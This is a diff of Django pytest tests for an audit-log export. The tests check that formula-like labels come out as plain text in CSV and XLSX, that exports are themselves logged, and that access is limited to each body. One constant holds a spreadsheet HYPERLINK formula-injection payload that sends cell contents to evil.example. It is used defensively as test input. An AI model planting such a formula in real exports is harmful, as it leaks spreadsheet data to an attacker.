@@ -7,7 +7,6 @@ import csv
 import io
 
 import pytest
-from django.test import Client
 from openpyxl import load_workbook
 
 from agilepa.audit import services as audit
@@ -18,12 +17,6 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Apri")'
 
 
-def client_of(user) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
-
-
 @pytest.fixture
 def trail(world):
     audit.record("person.update", body=world.a.body, label=FORMULA, person=world.a.colleague)
@@ -31,8 +24,8 @@ def trail(world):
     audit.record("person.update", body=world.b.body, label="Foreign body")
 
 
-def test_the_csv_holds_the_filtered_entries_with_formulas_as_text(world, trail) -> None:
-    response = client_of(world.users["hr_admin"]).get(
+def test_the_csv_holds_the_filtered_entries_with_formulas_as_text(world, trail, client_as) -> None:
+    response = client_as("hr_admin").get(
         f"/b/{world.a.body.slug}/audit/export/", {"format": "csv", "action": "person.update"}
     )
     assert response.status_code == 200
@@ -43,8 +36,8 @@ def test_the_csv_holds_the_filtered_entries_with_formulas_as_text(world, trail) 
     assert labels == ["'" + FORMULA]
 
 
-def test_the_xlsx_keeps_a_formula_like_text_as_text(world, trail) -> None:
-    response = client_of(world.users["hr_admin"]).get(
+def test_the_xlsx_keeps_a_formula_like_text_as_text(world, trail, client_as) -> None:
+    response = client_as("hr_admin").get(
         f"/b/{world.a.body.slug}/audit/export/", {"format": "xlsx"}
     )
     assert response.status_code == 200
@@ -55,8 +48,8 @@ def test_the_xlsx_keeps_a_formula_like_text_as_text(world, trail) -> None:
     assert all(c.data_type == "s" for c in cells)
 
 
-def test_an_export_is_itself_recorded(world, trail) -> None:
-    client_of(world.users["hr_admin"]).get(
+def test_an_export_is_itself_recorded(world, trail, client_as) -> None:
+    client_as("hr_admin").get(
         f"/b/{world.a.body.slug}/audit/export/", {"format": "csv", "actor": "hr@"}
     )
     export = AuditEntry.objects.get(action="audit.export")
@@ -65,7 +58,7 @@ def test_an_export_is_itself_recorded(world, trail) -> None:
     assert export.changes == {"format": "csv", "filters": {"actor": "hr@"}, "rows": 0}
 
 
-def test_another_bodys_hr_cannot_export_this_bodys_trail(world, trail) -> None:
-    response = client_of(world.users["hr_admin"]).get(f"/b/{world.b.body.slug}/audit/export/")
+def test_another_bodys_hr_cannot_export_this_bodys_trail(world, trail, client_as) -> None:
+    response = client_as("hr_admin").get(f"/b/{world.b.body.slug}/audit/export/")
     assert response.status_code == 404
     assert not AuditEntry.objects.filter(action="audit.export").exists()
